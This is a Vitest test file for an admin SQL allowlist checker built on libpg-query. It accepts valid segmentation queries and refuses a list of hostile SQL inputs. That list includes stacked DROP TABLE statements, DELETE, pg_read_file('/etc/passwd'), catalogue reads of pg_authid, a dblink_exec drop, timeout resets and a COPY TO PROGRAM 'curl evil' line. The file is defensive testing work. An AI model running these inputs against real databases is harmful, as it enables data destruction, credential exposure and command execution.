import { beforeAll, describe, expect, it } from 'vitest';
import { checkSqlRule, loadSqlParser } from './sql-mode';

beforeAll(() => loadSqlParser());

describe('admin SQL mode allowlist (libpg-query)', () => {
  it.each([
    'SELECT id AS account_id FROM seg.accounts WHERE category_code = \'A\'',
    'SELECT account_id, sum(net_minor) AS value FROM seg.invoice_lines WHERE issue_date > (SELECT as_of FROM seg.context) - 365 GROUP BY account_id HAVING sum(net_minor) > 100000',
    'WITH t AS (SELECT account_id, turnover_12m_minor AS v FROM features) SELECT account_id, ntile(5) OVER (ORDER BY v) AS value FROM t',
    'SELECT a.id AS account_id FROM accounts a WHERE NOT EXISTS (SELECT 1 FROM seg.invoices i WHERE i.account_id = a.id AND i.issue_date >= current_date - 90)',
    'SELECT account_id, percentile_disc(0.5) WITHIN GROUP (ORDER BY net_minor)::numeric AS value FROM invoice_lines GROUP BY account_id',
    'TABLE seg.features',
    'SELECT account_id, CASE WHEN turnover_12m_minor BETWEEN SYMMETRIC 1 AND 1e6 THEN 1 ELSE 0 END AS value FROM features;',
    'SELECT account_id, date_trunc(\'month\', last_invoice_on) AS value, extract(year FROM last_invoice_on) FROM seg.features',
  ])('accepts %s', (q) => {
    expect(checkSqlRule(q)).toMatchObject({ ok: true });
  });

  // The attack list of segmentation-anchors.md §2, each refused with a message naming the cause.
  it.each([
    ['stacked statements', 'SELECT id AS account_id FROM seg.accounts; DROP TABLE accounts', /exactly one statement/],
    ['DML', 'DELETE FROM accounts', /only a SELECT/],
    ['DML in a CTE', 'WITH d AS (DELETE FROM accounts RETURNING id) SELECT id AS account_id FROM d', /Delete is not allowed|WITH query must be a SELECT/],
    ['SELECT INTO', 'SELECT id INTO stolen FROM seg.accounts', /SELECT INTO/],
    ['FOR UPDATE', 'SELECT id AS account_id FROM seg.accounts FOR UPDATE', /FOR UPDATE/],
    ['pg_sleep', 'SELECT id AS account_id FROM seg.accounts WHERE pg_sleep(5) IS NOT NULL', /pg_sleep\(\) is not allowed/],
    ['pg_read_file', "SELECT pg_read_file('/etc/passwd') AS account_id", /pg_read_file\(\) is not allowed/],
    ['set_config (reset the timeout)', "SELECT set_config('statement_timeout', '0', true), id AS account_id FROM seg.accounts", /set_config\(\) is not allowed/],
    ['SET statement', 'SET statement_timeout = 0', /only a SELECT/],
    ['generate_series in FROM', 'SELECT g AS account_id FROM generate_series(1, 100000000) g', /functions in FROM/],
    ['LATERAL call', 'SELECT a.id AS account_id FROM seg.accounts a, LATERAL generate_series(1, 10) g', /functions in FROM/],
    ['catalogue subquery', 'SELECT id AS account_id FROM seg.accounts WHERE EXISTS (SELECT 1 FROM pg_catalog.pg_authid)', /pg_catalog.pg_authid is not allowed/],
    ['unqualified catalogue', 'SELECT usename AS account_id FROM pg_user', /relation pg_user is not allowed/],
    ['CRM tables directly', 'SELECT id AS account_id FROM public.accounts', /public.accounts is not allowed/],
    ['COPY … PROGRAM', "COPY accounts TO PROGRAM 'curl evil'", /only a SELECT/],
    ['quoted function', 'SELECT "pg_sleep"(1) AS account_id', /pg_sleep\(\) is not allowed/],
    ['schema-qualified function', 'SELECT public.sum(id) AS account_id FROM seg.accounts', /schema-qualified/],
    ['pg_catalog-qualified unsafe function', 'SELECT pg_catalog.pg_sleep(1) AS account_id', /pg_sleep\(\) is not allowed/],
    ['regclass cast', "SELECT 'pg_authid'::regclass AS account_id", /cast to .*regclass is not allowed/],
    ['current_user', 'SELECT current_user AS account_id', /current_user is not allowed/],
    ['dblink', "SELECT * FROM seg.accounts WHERE dblink_exec('host=x', 'drop') = ''", /dblink_exec\(\) is not allowed/],
    ['parameter reference', 'SELECT $1 AS account_id', /ParamRef is not allowed/],
    ['not SQL', 'SELEKT 1', /not valid SQL/],
  ])('refuses %s', (_name, q, message) => {
    const r = checkSqlRule(q);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error).toMatch(message);
  });
});
